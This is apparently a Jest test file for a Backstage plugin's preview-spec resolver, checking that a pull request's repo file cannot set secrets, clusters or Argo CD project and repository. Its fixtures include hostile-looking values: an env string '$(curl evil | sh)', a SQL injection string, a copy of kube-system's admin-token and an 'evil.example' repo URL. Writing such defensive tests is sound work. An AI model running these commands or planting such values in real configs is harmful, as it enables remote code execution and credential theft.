import {
  UrlReaderService,
  UrlReaderServiceReadUrlResponse,
} from '@backstage/backend-plugin-api';
import { Entity } from '@backstage/catalog-model';
import { ConfigReader } from '@backstage/config';
import {
  InputError,
  NotFoundError,
  ServiceUnavailableError,
} from '@backstage/errors';
import { previewSpecFileUrl, resolvePreviewSpec } from './resolvePreviewSpec';

/** Serves files from memory by URL; anything else is a NotFoundError. */
class InMemoryUrlReader implements UrlReaderService {
  readonly requested: string[] = [];
  constructor(private readonly files: Record<string, string | Error>) {}

  async readUrl(url: string): Promise<UrlReaderServiceReadUrlResponse> {
    this.requested.push(url);
    const file = this.files[url];
    if (file === undefined) throw new NotFoundError(`${url} not found`);
    if (file instanceof Error) throw file;
    return { buffer: async () => Buffer.from(file, 'utf8') };
  }
  async readTree(): Promise<never> {
    throw new Error('readTree is not supported');
  }
  async search(): Promise<never> {
    throw new Error('search is not supported');
  }
}

const FILE_URL =
  'https://github.com/acme/shop/blob/feature/x/.backstage/preview.yaml';
const SHA = '0123456789abcdef0123456789abcdef01234567';

function entity(annotations: Record<string, string> = {}): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: {
      name: 'shop',
      annotations: {
        'backstage.io/source-location':
          'url:https://github.com/acme/shop/tree/main/',
        ...annotations,
      },
    },
    spec: { type: 'service', owner: 'team-a', lifecycle: 'production' },
  };
}

const repoFile = `
workloads:
  - name: web
    image: ghcr.io/acme/shop:{branch}
    port: 8080
  - name: worker
    image: ghcr.io/acme/worker:{branch}
`;
const annotationSpec = JSON.stringify({
  workloads: [{ name: 'api', image: 'api:1', port: 80 }],
});
const fullDefaults = new ConfigReader({
  workloads: [{ name: 'default', image: 'nginx', port: 80 }],
});

describe('previewSpecFileUrl', () => {
  it.each([
    ['url:https://github.com/acme/shop/tree/main/', 'feature/x', FILE_URL],
    [
      'url:https://github.com/acme/shop/blob/main/catalog-info.yaml',
      'feature/x',
      FILE_URL,
    ],
    [
      'url:https://github.com/acme/shop/tree/main/services/shop',
      'main',
      'https://github.com/acme/shop/blob/main/.backstage/preview.yaml',
    ],
    [
      'url:https://github.com/acme/shop',
      'main',
      'https://github.com/acme/shop/blob/main/.backstage/preview.yaml',
    ],
    [
      'url:https://github.com/acme/shop.git',
      'main',
      'https://github.com/acme/shop/blob/main/.backstage/preview.yaml',
    ],
    [
      'url:https://ghe.acme.io/acme/shop/tree/main/',
      'a#b',
      'https://ghe.acme.io/acme/shop/blob/a%23b/.backstage/preview.yaml',
    ],
    [
      'url:https://github.com/acme/shop/tree/main/',
      SHA,
      `https://github.com/acme/shop/blob/${SHA}/.backstage/preview.yaml`,
    ],
    ['url:https://github.com/acme', 'main', undefined],
    ['url:not a url', 'main', undefined],
    ['url:ftp://github.com/acme/shop', 'main', undefined],
    ['file:./catalog-info.yaml', 'main', undefined],
  ])('%s at %s → %s', (location, ref, expected) => {
    expect(
      previewSpecFileUrl(
        entity({ 'backstage.io/source-location': location }),
        ref,
      ),
    ).toBe(expected);
  });

  it('is undefined without a source location', () => {
    expect(
      previewSpecFileUrl({ ...entity(), metadata: { name: 'shop' } }, 'main'),
    ).toBeUndefined();
  });
});

describe('resolvePreviewSpec', () => {
  it('prefers the repo file at the branch', async () => {
    const urlReader = new InMemoryUrlReader({ [FILE_URL]: repoFile });
    const resolved = await resolvePreviewSpec({
      entity: entity({ 'backstage-previews.io/spec': annotationSpec }),
      branch: 'feature/x',
      defaults: fullDefaults,
      urlReader,
    });
    expect(resolved.source).toBe('repo file .backstage/preview.yaml@feature/x');
    expect(resolved.spec.workloads.map(w => w.name)).toEqual(['web', 'worker']);
    expect(urlReader.requested).toEqual([FILE_URL]);
  });

  it('reads the repo file at the commit when the sha is known', async () => {
    const url = `https://github.com/acme/shop/blob/${SHA}/.backstage/preview.yaml`;
    const urlReader = new InMemoryUrlReader({ [url]: repoFile });
    const resolved = await resolvePreviewSpec({
      entity: entity(),
      branch: 'feature/x',
      sha: SHA,
      urlReader,
    });
    expect(resolved.source).toBe('repo file .backstage/preview.yaml@feature/x');
    expect(urlReader.requested).toEqual([url]);
  });

  it('falls back to the annotation when the repo has no file', async () => {
    const urlReader = new InMemoryUrlReader({});
    const resolved = await resolvePreviewSpec({
      entity: entity({ 'backstage-previews.io/spec': annotationSpec }),
      branch: 'feature/x',
      defaults: fullDefaults,
      urlReader,
    });
    expect(resolved).toEqual({
      source: 'annotation backstage-previews.io/spec',
      spec: { workloads: [{ name: 'api', image: 'api:1', port: 80 }] },
    });
    expect(urlReader.requested).toEqual([FILE_URL]);
  });

  it.each([
    [
      'a server error',
      new Error('Request failed with 500 Internal Server Error'),
    ],
    [
      'a rate limit',
      Object.assign(new Error('API rate limit exceeded'), {
        name: 'ResponseError',
      }),
    ],
    [
      'no integration for the host',
      new Error('No matching integration for https://github.com'),
    ],
  ])(
    'refuses to fall back when reading the repo file fails with %s',
    async (_, error) => {
      const urlReader = new InMemoryUrlReader({ [FILE_URL]: error });
      const resolving = resolvePreviewSpec({
        entity: entity({ 'backstage-previews.io/spec': annotationSpec }),
        branch: 'feature/x',
        defaults: fullDefaults,
        urlReader,
      });
      await expect(resolving).rejects.toThrow(ServiceUnavailableError);
      await expect(resolving).rejects.toThrow(
        `Could not read the preview spec .backstage/preview.yaml of component:default/shop at branch feature/x from ${FILE_URL}`,
      );
      await expect(resolving).rejects.toThrow(error.message);
    },
  );

  it('does not look for a repo file without a reader or a GitHub source location', async () => {
    const urlReader = new InMemoryUrlReader({});
    const noLocation = {
      ...entity(),
      metadata: {
        name: 'shop',
        annotations: { 'backstage-previews.io/spec': annotationSpec },
      },
    };
    await expect(
      resolvePreviewSpec({ entity: noLocation, branch: 'main', urlReader }),
    ).resolves.toMatchObject({
      source: 'annotation backstage-previews.io/spec',
    });
    await expect(
      resolvePreviewSpec({
        entity: entity({ 'backstage-previews.io/spec': annotationSpec }),
        branch: 'main',
      }),
    ).resolves.toMatchObject({
      source: 'annotation backstage-previews.io/spec',
    });
    expect(urlReader.requested).toEqual([]);
  });

  it('reads a YAML annotation', async () => {
    const resolved = await resolvePreviewSpec({
      entity: entity({
        'backstage-previews.io/spec':
          'workloads:\n  - name: web\n    image: nginx\n    port: 80\n',
      }),
      branch: 'main',
    });
    expect(resolved.spec).toEqual({
      workloads: [{ name: 'web', image: 'nginx', port: 80 }],
    });
  });

  it('turns the legacy annotations into one workload "app", filled from legacy defaults', async () => {
    const resolved = await resolvePreviewSpec({
      entity: entity({
        'backstage-previews.io/image': 'ghcr.io/acme/shop:{branch}',
        'backstage-previews.io/port': '8080',
      }),
      branch: 'main',
      defaults: new ConfigReader({
        image: 'ignored',
        env: { A: '1' },
        replicas: 2,
      }),
    });
    expect(resolved).toEqual({
      source:
        'annotations backstage-previews.io/image and backstage-previews.io/port',
      spec: {
        workloads: [
          {
            name: 'app',
            image: 'ghcr.io/acme/shop:{branch}',
            port: 8080,
            env: { A: '1' },
            replicas: 2,
          },
        ],
      },
    });
  });

  it('uses a whole default spec from app-config', async () => {
    const resolved = await resolvePreviewSpec({
      entity: entity(),
      branch: 'main',
      defaults: fullDefaults,
    });
    expect(resolved).toEqual({
      source: 'app-config previews.defaultSpec',
      spec: { workloads: [{ name: 'default', image: 'nginx', port: 80 }] },
    });
  });

  it('accepts the legacy default spec', async () => {
    const resolved = await resolvePreviewSpec({
      entity: entity(),
      branch: 'main',
      defaults: new ConfigReader({ image: 'nginx', port: 80, env: { B: 'x' } }),
    });
    expect(resolved.spec).toEqual({
      workloads: [{ name: 'app', image: 'nginx', port: 80, env: { B: 'x' } }],
    });
  });

  it.each([
    [
      'an annotation missing the image',
      { 'backstage-previews.io/spec': '{"workloads":[{"name":"web"}]}' },
      undefined,
      'Invalid preview spec in annotation backstage-previews.io/spec of component:default/shop: workloads[0].image is required',
    ],
    [
      'an annotation that is not YAML',
      { 'backstage-previews.io/spec': 'workloads: [unclosed' },
      undefined,
      'Invalid preview spec in annotation backstage-previews.io/spec of component:default/shop: not valid YAML or JSON',
    ],
    [
      'an empty annotation',
      { 'backstage-previews.io/spec': '' },
      undefined,
      'Invalid preview spec in annotation backstage-previews.io/spec of component:default/shop: spec must be an object',
    ],
    [
      'a legacy port that is not a number',
      {
        'backstage-previews.io/image': 'nginx',
        'backstage-previews.io/port': 'http',
      },
      undefined,
      'Invalid preview spec in annotations backstage-previews.io/image and backstage-previews.io/port of component:default/shop: workloads[0].port must be an integer',
    ],
    [
      'a legacy port without an image',
      { 'backstage-previews.io/port': '80' },
      undefined,
      'workloads[0].image is required',
    ],
    [
      'an invalid default spec',
      {},
      new ConfigReader({
        workloads: [{ name: 'web', image: 'nginx', port: 70000 }],
      }),
      'Invalid preview spec in app-config previews.defaultSpec of component:default/shop: workloads[0].port must be <= 65535',
    ],
    [
      'a legacy default spec with a typo',
      {},
      new ConfigReader({ image: 'nginx', prot: 80 }),
      'Invalid preview spec in app-config previews.defaultSpec of component:default/shop: prot is not a known field',
    ],
    [
      'no spec anywhere',
      {},
      undefined,
      'No preview spec for component:default/shop: add .backstage/preview.yaml to its repository',
    ],
  ])(
    'rejects %s with an InputError',
    async (_, annotations, defaults, message) => {
      const resolving = resolvePreviewSpec({
        entity: entity(annotations),
        branch: 'main',
        defaults,
      });
      await expect(resolving).rejects.toThrow(InputError);
      await expect(resolving).rejects.toThrow(message);
    },
  );

  it.each([
    [
      'an invalid repo file',
      'workloads:\n  - name: web\n    image: nginx\n    port: 0\n',
      'Invalid preview spec in repo file .backstage/preview.yaml@feature/x of component:default/shop: workloads[0].port must be >= 1',
    ],
    [
      'an empty repo file',
      '',
      'Invalid preview spec in repo file .backstage/preview.yaml@feature/x of component:default/shop: spec must be an object',
    ],
    [
      'a repo file with two documents',
      'workloads: []\n---\nworkloads: []\n',
      'not valid YAML or JSON',
    ],
    [
      'an oversized repo file',
      `# ${'x'.repeat(300 * 1024)}\n`,
      'is larger than',
    ],
  ])('rejects %s without falling back', async (_, text, message) => {
    const resolving = resolvePreviewSpec({
      entity: entity({ 'backstage-previews.io/spec': annotationSpec }),
      branch: 'feature/x',
      urlReader: new InMemoryUrlReader({ [FILE_URL]: text }),
    });
    await expect(resolving).rejects.toThrow(InputError);
    await expect(resolving).rejects.toThrow(message);
  });
});

describe('the repo file at a pull request head is untrusted', () => {
  const resolveRepo = (
    file: string,
    annotations: Record<string, string> = {},
  ) =>
    resolvePreviewSpec({
      entity: entity(annotations),
      branch: 'feature/x',
      urlReader: new InMemoryUrlReader({ [FILE_URL]: file }),
    });
  const web = { name: 'web', image: 'ghcr.io/acme/shop:{branch}', port: 8080 };
  const yaml = (extra: Record<string, unknown>) =>
    JSON.stringify({ workloads: [web], ...extra });

  it.each([
    [
      'a Secret copied from kube-system',
      {
        secrets: [
          {
            name: 's',
            copyFrom: { namespace: 'kube-system', name: 'admin-token' },
          },
        ],
      },
      'secrets',
    ],
    ['an engine', { engine: 'argocd' }, 'engine'],
    ['a cluster', { cluster: 'prod-eu' }, 'cluster'],
    [
      'an Argo CD project',
      { argocd: { path: 'p', project: 'default' } },
      'argocd.project',
    ],
    [
      'a foreign Argo CD repository',
      { argocd: { path: 'p', repoURL: 'https://evil.example/x.git' } },
      'argocd.repoURL',
    ],
    [
      'several at once',
      {
        engine: 'argocd',
        cluster: 'c',
        argocd: { path: 'p', project: 'default' },
      },
      'engine, cluster, argocd.project',
    ],
  ])(
    'refuses %s with a 400 naming the field and the source',
    async (_, extra, fields) => {
      const error = await resolveRepo(yaml(extra)).catch(e => e);
      expect(error).toBeInstanceOf(InputError);
      expect(error.message).toBe(
        `Invalid preview spec in repo file .backstage/preview.yaml@feature/x of component:default/shop: ${fields} may only be set in the catalog (annotation backstage-previews.io/spec) or app-config, not in the repository's file`,
      );
    },
  );

  it("keeps the catalog's choices under the repo file's workloads", async () => {
    const catalog = JSON.stringify({
      workloads: [{ name: 'api', image: 'api:1', port: 80 }],
      secrets: [
        {
          name: 'regcred',
          copyFrom: { namespace: 'previews-shared', name: 'regcred' },
        },
      ],
      imagePullSecrets: ['regcred'],
      nodeSelector: { pool: 'previews' },
      cluster: 'eu',
      engine: 'argocd',
      argocd: {
        path: 'deploy/catalog',
        project: 'previews',
        repoURL: 'https://github.com/acme/shop',
      },
    });
    const resolved = await resolveRepo(
      yaml({
        imagePullSecrets: ['regcred'],
        argocd: { path: 'deploy/preview' },
      }),
      { 'backstage-previews.io/spec': catalog },
    );
    expect(resolved.source).toBe('repo file .backstage/preview.yaml@feature/x');
    expect(resolved.spec).toMatchObject({
      workloads: [web],
      secrets: [
        {
          name: 'regcred',
          copyFrom: { namespace: 'previews-shared', name: 'regcred' },
        },
      ],
      imagePullSecrets: ['regcred'],
      nodeSelector: { pool: 'previews' },
      cluster: 'eu',
      engine: 'argocd',
      // the repo file chooses its own path; project and repository stay the catalog's
      argocd: {
        path: 'deploy/preview',
        project: 'previews',
        repoURL: 'https://github.com/acme/shop',
      },
    });
  });

  it("lets the repo file choose placement (the engine bounds it by config); the catalog's stands when it chooses none", async () => {
    const catalog = JSON.stringify({
      workloads: [{ name: 'api', image: 'api:1', port: 80 }],
      nodeSelector: { pool: 'previews' },
      tolerations: [
        { key: 'previews', operator: 'Exists', effect: 'NoSchedule' },
      ],
    });
    const annotations = { 'backstage-previews.io/spec': catalog };
    const own = await resolveRepo(
      yaml({ nodeSelector: { pool: 'spot' } }),
      annotations,
    );
    expect(own.spec.nodeSelector).toEqual({ pool: 'spot' });
    expect(own.spec.tolerations).toEqual([
      { key: 'previews', operator: 'Exists', effect: 'NoSchedule' },
    ]);
    const none = await resolveRepo(yaml({}), annotations);
    expect(none.spec.nodeSelector).toEqual({ pool: 'previews' });
    // it never drops a label the catalog pinned: an empty or partial selector keeps the catalog's labels
    const empty = await resolveRepo(yaml({ nodeSelector: {} }), annotations);
    expect(empty.spec.nodeSelector).toEqual({ pool: 'previews' });
    const zone = await resolveRepo(
      yaml({ nodeSelector: { zone: 'b' } }),
      annotations,
    );
    expect(zone.spec.nodeSelector).toEqual({ pool: 'previews', zone: 'b' });
    const withoutCatalog = await resolveRepo(
      yaml({ tolerations: [{ operator: 'Exists' }] }),
    );
    expect(withoutCatalog.spec.tolerations).toEqual([{ operator: 'Exists' }]);
  });

  it('accepts what shapes its own workloads, shell and YAML metacharacters in env values included', async () => {
    const env = {
      A: '$(curl evil | sh)',
      B: 'key: value',
      C: '{{ .Values }}',
      D: "'; DROP TABLE x; --",
    };
    const resolved = await resolveRepo(
      yaml({
        workloads: [{ ...web, env, replicas: 2, readinessPath: '/ready' }],
      }),
    );
    expect(resolved.spec.workloads[0]).toMatchObject({
      env,
      replicas: 2,
      readinessPath: '/ready',
    });
  });
});
